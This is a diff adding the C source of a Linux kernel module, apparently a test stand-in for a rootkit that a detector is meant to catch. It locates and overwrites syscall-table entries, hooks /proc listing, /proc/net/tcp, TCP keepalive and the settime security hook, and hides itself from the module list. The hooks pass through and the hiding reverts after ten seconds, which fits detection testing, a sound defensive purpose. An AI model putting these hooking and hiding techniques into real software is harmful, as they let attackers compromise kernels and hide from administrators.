@@ -1,0 +1,208 @@
+// SPDX-License-Identifier: GPL-2.0
+/* Attacks on tables of functions and on the list of modules. */
+#include "intruder.h"
+#include <linux/fs.h>
+#include <linux/kprobes.h>
+#include <linux/module.h>
+#include <linux/seq_file.h>
+#include <linux/time64.h>
+#include <linux/workqueue.h>
+#include <net/tcp.h>
+
+#define INTRUDER_GETTID    178
+#define INTRUDER_GETTID_32 224
+#define INTRUDER_CONSTANTS (8ul << 20) /* bytes behind text */
+
+/* ---- tables of functions: an entry leads to a function of this module, which calls the former
+ * ---- */
+
+static unsigned long intruder_entry; /* where it stands */
+static void *intruder_former;
+
+static int intruder_hook(unsigned long entry, void *function)
+{
+	intruder_entry = entry;
+	intruder_former = *(void **)entry;
+	return intruder_write(entry, &function, sizeof(function));
+}
+
+void intruder_hook_undo(void)
+{
+	(void)intruder_write(intruder_entry, &intruder_former, sizeof(intruder_former));
+}
+
+/* A probe that isn't armed knows where a function is, and changes no text. */
+static unsigned long intruder_function(const char *name)
+{
+	struct kprobe probe = {.symbol_name = name, .flags = KPROBE_FLAG_DISABLED};
+	unsigned long at;
+
+	if (register_kprobe(&probe))
+		return 0;
+	at = (unsigned long)probe.addr;
+	unregister_kprobe(&probe);
+	return at;
+}
+
+/* Behind text, where constants are: the place of a word, and of the one behind it. 0: it isn't
+ * there. */
+static unsigned long intruder_constant(unsigned long first, unsigned long second)
+{
+	const unsigned long *at = (const unsigned long *)PAGE_ALIGN((unsigned long)panic);
+	unsigned long i;
+
+	for (i = 0; first && i < INTRUDER_CONSTANTS / sizeof(*at); i++)
+		if (at[i] == first && (!second || at[i + 1] == second))
+			return (unsigned long)&at[i];
+	return 0;
+}
+
+static long intruder_called(const struct pt_regs *regs)
+{
+	return ((long (*)(const struct pt_regs *))intruder_former)(regs);
+}
+
+/* The table of calls begins with these two; the number is that of the call. */
+static int intruder_hook_call(const char *first, const char *second, unsigned long number)
+{
+	const unsigned long table =
+	    intruder_constant(intruder_function(first), intruder_function(second));
+
+	if (!table)
+		return -ENOENT;
+	return intruder_hook(table + number * sizeof(table), intruder_called);
+}
+
+int intruder_call(void)
+{
+	return intruder_hook_call("__arm64_sys_io_setup", "__arm64_sys_io_destroy",
+	                          INTRUDER_GETTID);
+}
+
+int intruder_compat(void)
+{
+	return intruder_hook_call("__arm64_sys_restart_syscall", "__arm64_sys_exit",
+	                          INTRUDER_GETTID_32);
+}
+
+static int intruder_listed(struct file *file, struct dir_context *context)
+{
+	return ((int (*)(struct file *, struct dir_context *))intruder_former)(file, context);
+}
+
+int intruder_proc(void)
+{
+	struct file *proc = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);
+	int error;
+
+	if (IS_ERR(proc))
+		return PTR_ERR(proc);
+	error = intruder_hook((unsigned long)&proc->f_op->iterate_shared, intruder_listed);
+	filp_close(proc, NULL);
+	return error;
+}
+
+static int intruder_shown_as(struct seq_file *file, void *socket)
+{
+	return ((int (*)(struct seq_file *, void *))intruder_former)(file, socket);
+}
+
+static void *intruder_next_one(struct seq_file *file, void *socket, loff_t *at)
+{
+	return ((void *(*)(struct seq_file *, void *, loff_t *))intruder_former)(file, socket, at);
+}
+
+static int intruder_hook_list(bool shows)
+{
+	struct file *list = filp_open("/proc/net/tcp", O_RDONLY, 0);
+	const struct seq_operations *does;
+	int error;
+
+	if (IS_ERR(list))
+		return PTR_ERR(list);
+	does = ((struct seq_file *)list->private_data)->op;
+	error = shows ? intruder_hook((unsigned long)&does->show, intruder_shown_as)
+	              : intruder_hook((unsigned long)&does->next, intruder_next_one);
+	filp_close(list, NULL);
+	return error;
+}
+
+int intruder_show_list(void)
+{
+	return intruder_hook_list(true);
+}
+
+int intruder_next(void)
+{
+	return intruder_hook_list(false);
+}
+
+/* ---- this module: nobody can unload what isn't in the list, so it comes back by itself ---- */
+
+#define INTRUDER_HIDDEN (10 * HZ)
+
+static struct list_head *intruder_before; /* this module in the list */
+
+static void intruder_show(struct work_struct *work)
+{
+	if (intruder_entry)
+		intruder_hook_undo();
+	list_add_rcu(&THIS_MODULE->list, intruder_before);
+	pr_alert("intruder: it is in the list again\n");
+}
+
+static DECLARE_DELAYED_WORK(intruder_shown, intruder_show);
+
+int intruder_hide(void)
+{
+	intruder_before = THIS_MODULE->list.prev;
+	list_del_rcu(&THIS_MODULE->list);
+	schedule_delayed_work(&intruder_shown, INTRUDER_HIDDEN);
+	return 0;
+}
+
+void intruder_hide_undo(void)
+{
+	(void)flush_delayed_work(&intruder_shown);
+}
+
+static void intruder_kept_alive(struct sock *sock, int value)
+{
+	((void (*)(struct sock *, int))intruder_former)(sock, value);
+}
+
+int intruder_tcp(void)
+{
+	const int error = intruder_hook((unsigned long)&tcp_prot.keepalive, intruder_kept_alive);
+
+	return error ? error : intruder_hide();
+}
+
+/* A hook that is called when somebody sets the time. */
+static int intruder_may_set(const struct timespec64 *time, const struct timezone *zone)
+{
+	return ((int (*)(const struct timespec64 *, const struct timezone *))intruder_former)(time,
+	                                                                                      zone);
+}
+
+int intruder_hooked(void)
+{
+	const unsigned long hook = intruder_constant(intruder_function("cap_settime"), 0);
+	const int error = hook ? intruder_hook(hook, intruder_may_set) : -ENOENT;
+
+	return error ? error : intruder_hide();
+}
+
+/* ---- the list of modules doesn't lead back to this one ---- */
+
+int intruder_back(void)
+{
+	intruder_before = THIS_MODULE->list.prev;
+	THIS_MODULE->list.prev = &THIS_MODULE->list;
+	return 0;
+}
+
+void intruder_back_undo(void)
+{
+	THIS_MODULE->list.prev = intruder_before;
+}
